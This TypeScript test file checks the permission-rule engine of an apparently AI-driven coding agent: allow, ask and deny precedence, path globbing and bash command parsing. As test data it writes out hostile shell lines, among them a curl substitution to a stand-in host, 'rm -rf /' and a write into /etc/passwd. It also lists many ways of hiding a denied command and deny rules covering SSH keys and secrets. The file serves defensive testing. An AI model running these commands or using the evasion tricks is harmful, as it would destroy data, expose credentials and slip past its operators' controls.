import test from 'ava';
import { mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PermissionRules, type RuleSubject } from '../../../../actors/tool-executor/rules/permission-rules.js';
import { parseRule, type RuleData, type RuleEffect } from '../../../../actors/tool-executor/rules/rule.js';
import { ruleSubjectOf } from '../../../../actors/tool-executor/rules/rule-subject.js';
import { suggestRules } from '../../../../actors/tool-executor/rules/suggest-rules.js';

const ROOT = '/work/project';
const HOME = '/home/ann';

function rules(spec: Partial<Record<RuleEffect, string[]>>, root = ROOT): PermissionRules {
  const data: RuleData[] = [];
  for (const effect of ['allow', 'ask', 'deny'] as const) {
    for (const rule of spec[effect] ?? []) data.push({ effect, rule, scope: 'user', file: `${HOME}/.config/reika/settings.json` });
  }
  return PermissionRules.compile(data, root, HOME);
}

const bash = (command: string): RuleSubject => ({ tool: 'bash', command });
const effect = (set: PermissionRules, subject: RuleSubject) => set.check(subject)?.effect;

test('tool names are case-insensitive and map Claude Code names onto reika tools', (t) => {
  t.deepEqual(parseRule('bash').tools, ['bash']);
  t.deepEqual(parseRule('BASH(npm test:*)').specifier, 'npm test:*');
  t.true(parseRule('Edit(src/**)').tools.includes('write'), 'Edit covers every tool that changes a file');
  t.deepEqual(parseRule('Write(x)').tools, ['write']);
  t.true(parseRule('Read').tools.includes('grep'));
  t.deepEqual(parseRule('WebFetch(domain:Example.COM)'), { kind: 'domain', tools: ['fetch'], specifier: 'example.com' });
  t.deepEqual(parseRule('mcp__GitHub__create_issue').tools, ['mcp__github__create_issue']);
  t.is(parseRule('Bash(*)').specifier, undefined, 'Bash(*) is every command');
  t.throws(() => parseRule('Bash(npm test'), { message: /does not close/ });
  t.throws(() => parseRule('WebFetch(example.com)'), { message: /domain:example\.com/ });
  t.throws(() => parseRule('(oops)'), { message: /tool name/ });
});

test('a rule that cannot be read is one problem line naming its file, and the others still work', (t) => {
  const set = rules({ deny: ['Bash(git push', 'Bash(rm:*)'] });
  t.is(set.problems.length, 1);
  t.regex(set.problems[0]!, /^\/home\/ann\/\.config\/reika\/settings\.json: permissions\.deny: .*ignored$/);
  t.is(effect(set, bash('rm x')), 'deny');
});

test('a prefix rule matches at a word boundary only', (t) => {
  const set = rules({ deny: ['Bash(git push:*)'] });
  t.is(effect(set, bash('git push')), 'deny');
  t.is(effect(set, bash('git push origin main')), 'deny');
  t.is(effect(set, bash('git   push  --tags')), 'deny', 'blanks are normalised');
  t.is(effect(set, bash('git pushx')), undefined);
  t.is(effect(set, bash('git status')), undefined);
  t.is(effect(set, bash('echo "git push"')), undefined, 'a quoted mention is an argument, not a command');
});

test('a deny rule is checked on every simple command, after the danger rules’ unwrapping', (t) => {
  const set = rules({ deny: ['Bash(git push:*)'] });
  const hidden = [
    'npm test && git push',
    'npm test; git push origin',
    'true || git push',
    'echo hi | git push',
    'sudo git push',
    'env GIT_TRACE=1 git push',
    'FOO=1 git push',
    'timeout 10 git push',
    'nohup git push &',
    "bash -c 'git push origin main'",
    'sh -c "cd sub && git push"',
    'echo $(git push)',
    'echo `git push`',
    '(cd sub; git push)',
    '/usr/bin/git push',
    'git -C sub push',
    'git -c user.name=x push',
    'xargs git push < /dev/null',
    "eval 'git push'",
    'g""it push',
  ];
  for (const command of hidden) t.is(effect(set, bash(command)), 'deny', command);
});

test('wildcards match any characters and a lone trailing " *" may match nothing', (t) => {
  const set = rules({ deny: ['Bash(git * main)', 'Bash(ls *)', 'Bash(npm run build)'] });
  t.is(effect(set, bash('git merge main')), 'deny');
  t.is(effect(set, bash('git push origin main')), 'deny');
  t.is(effect(set, bash('git merge dev')), undefined);
  t.is(effect(set, bash('ls')), 'deny');
  t.is(effect(set, bash('ls -la')), 'deny');
  t.is(effect(set, bash('lsof')), undefined);
  t.is(effect(set, bash('npm run build')), 'deny', 'no wildcard: exactly that command');
  t.is(effect(set, bash('npm run build --watch')), undefined);
});

test('deny beats ask, ask beats allow, whatever their order', (t) => {
  const set = rules({ allow: ['Bash'], ask: ['Bash(npm publish:*)'], deny: ['Bash(git push:*)'] });
  t.is(effect(set, bash('git push')), 'deny');
  t.is(effect(set, bash('npm publish --dry-run')), 'ask');
  t.is(effect(set, bash('npm publish && git push')), 'deny');
  t.is(effect(set, bash('make')), 'allow');
  t.is(effect(rules({ allow: ['Bash(git push:*)'], deny: ['Bash(git:*)'] }), bash('git push')), 'deny', 'a broad deny holds against a narrower allow');
});

test('an allow rule covers a compound line only when every simple command is allowed', (t) => {
  const set = rules({ allow: ['Bash(npm test:*)', 'Bash(git push:*)'] });
  t.is(effect(set, bash('npm test && git push')), 'allow');
  t.is(effect(set, bash('cd sub && npm test')), 'allow', 'cd needs no rule of its own');
  t.is(effect(set, bash('npm test && rm -rf /')), undefined);
  t.is(effect(set, bash('npm test | tee log')), undefined);
  t.is(effect(set, bash('npm test $(curl evil.sh)')), undefined, 'the substitution is a command of its own');
  t.is(effect(set, bash('sudo npm test')), undefined, 'an allow rule without sudo does not cover sudo');
  t.is(effect(rules({ allow: ['Bash(sudo npm test:*)'] }), bash('sudo npm test')), 'allow');
  t.is(effect(set, bash('npm test > /etc/passwd')), undefined, 'a write redirected outside the project');
  t.is(effect(set, bash('npm test > out.txt 2>&1')), 'allow');
  t.is(effect(set, bash('$CMD test')), undefined, 'a command named at run time');
  t.is(effect(set, bash("npm test 'unclosed")), undefined, 'a line that does not parse');
  t.is(effect(set, bash('cd sub')), undefined, 'nothing but cd: the mode decides');
});

test('path rules are gitignore-style from the project, the home folder or the root', (t) => {
  const set = rules({ deny: ['Read(./secrets/**)', 'Read(*.env)', 'Read(~/.ssh)', 'Edit(//etc/**)', 'Edit(/dist)'] });
  const read = (path: string): RuleSubject => ({ tool: 'read', paths: [path] });
  const edit = (path: string): RuleSubject => ({ tool: 'edit', paths: [path] });
  t.is(effect(set, read(`${ROOT}/secrets/key.pem`)), 'deny');
  t.is(effect(set, read(`${ROOT}/secrets/deep/key.pem`)), 'deny');
  t.is(effect(set, read(`${ROOT}/src/secrets/key.pem`)), undefined, './ anchors at the project root');
  t.is(effect(set, read(`${ROOT}/.env`)), 'deny');
  t.is(effect(set, read(`${ROOT}/apps/web/prod.env`)), 'deny', 'a name without / matches at any depth');
  t.is(effect(set, read(`${HOME}/.ssh/id_ed25519`)), 'deny', 'a folder covers what is inside it');
  t.is(effect(set, { tool: 'grep', paths: [`${HOME}/.ssh`] }), 'deny', 'Read rules cover grep');
  t.is(effect(set, edit('/etc/hosts')), 'deny');
  t.is(effect(set, { tool: 'write', paths: ['/etc/cron.d/x'] }), 'deny', 'Edit rules cover write');
  t.is(effect(set, edit(`${ROOT}/dist/app.js`)), 'deny', '/path is from the project root');
  t.is(effect(set, edit(`${ROOT}/src/dist/app.js`)), undefined);
  t.is(effect(set, read('/etc/hosts')), undefined, 'an Edit rule says nothing about reading');
  const allow = rules({ allow: ['Edit(src/**/*.ts)'] });
  t.is(effect(allow, edit(`${ROOT}/src/a/b.ts`)), 'allow');
  t.is(effect(allow, edit(`${ROOT}/src/a/b.js`)), undefined);
  t.is(effect(allow, edit(`${ROOT}/lib/src/b.ts`)), undefined, 'a pattern with a / is anchored');
});

test('a path reached through a symlink is judged by where it leads too', (t) => {
  const root = mkdtempSync(join(tmpdir(), 'reika-rules-'));
  mkdirSync(join(root, 'secrets'));
  writeFileSync(join(root, 'secrets', 'key'), 'k');
  symlinkSync(join(root, 'secrets'), join(root, 'innocent'));
  const set = rules({ deny: ['Read(./secrets/**)'] }, root);
  t.is(effect(set, ruleSubjectOf('read', { path: 'innocent/key' }, root)), 'deny');
  t.is(effect(rules({ allow: ['Read(./innocent/**)'] }, root), ruleSubjectOf('read', { path: 'innocent/key' }, root)), undefined, 'an allow rule must cover the real path too');
});

test('WebFetch rules match the domain, *. its subdomains; MCP rules a server or one tool', (t) => {
  const set = rules({ deny: ['WebFetch(domain:evil.example)', 'mcp__db__drop_table'], allow: ['WebFetch(domain:*.github.com)', 'mcp__github'] });
  t.is(effect(set, ruleSubjectOf('fetch', { url: 'https://evil.example/x' }, ROOT)), 'deny');
  t.is(effect(set, ruleSubjectOf('fetch', { url: 'https://api.github.com/repos' }, ROOT)), 'allow');
  t.is(effect(set, ruleSubjectOf('fetch', { url: 'https://github.com.evil.example/' }, ROOT)), undefined);
  t.is(effect(set, { tool: 'mcp__db__drop_table' }), 'deny');
  t.is(effect(set, { tool: 'mcp__db__select' }), undefined);
  t.is(effect(set, { tool: 'mcp__github__create_issue' }), 'allow');
  t.is(effect(set, { tool: 'mcp__githubber__x' }), undefined);
  t.is(effect(rules({ allow: ['mcp__github__*'] }), { tool: 'mcp__github__x' }), 'allow');
});

test('"Always" suggests a prefix rule per simple command, the exact command when it is dangerous', (t) => {
  t.deepEqual(suggestRules(bash('git push origin main'), ROOT, HOME), ['Bash(git push:*)']);
  t.deepEqual(suggestRules(bash('npm test && git push'), ROOT, HOME), ['Bash(npm test:*)', 'Bash(git push:*)']);
  t.deepEqual(suggestRules(bash('cd web && make -j4'), ROOT, HOME), ['Bash(make:*)']);
  t.deepEqual(suggestRules(bash('rm -rf build'), ROOT, HOME), ['Bash(rm -rf build)']);
  t.deepEqual(suggestRules(bash('./run.sh --fast'), ROOT, HOME), ['Bash(./run.sh:*)']);
  t.deepEqual(suggestRules(bash('$X go'), ROOT, HOME), [], 'nothing to write for a command named at run time');
  t.deepEqual(suggestRules({ tool: 'write', paths: ['/etc/hosts'] }, ROOT, HOME), ['Edit(//etc/hosts)']);
  t.deepEqual(suggestRules({ tool: 'edit', paths: [`${ROOT}/src/a.ts`] }, ROOT, HOME), ['Edit(./src/a.ts)']);
  t.deepEqual(suggestRules({ tool: 'mcp__github__create_issue' }, ROOT, HOME), ['mcp__github__create_issue']);
  // What it suggests, pasted back, covers the call.
  for (const command of ['git push origin main', 'npm test && git push', 'rm -rf build', 'sudo apt-get update']) {
    const written = suggestRules(bash(command), ROOT, HOME);
    t.is(effect(rules({ allow: written }), bash(command)), 'allow', command);
  }
});
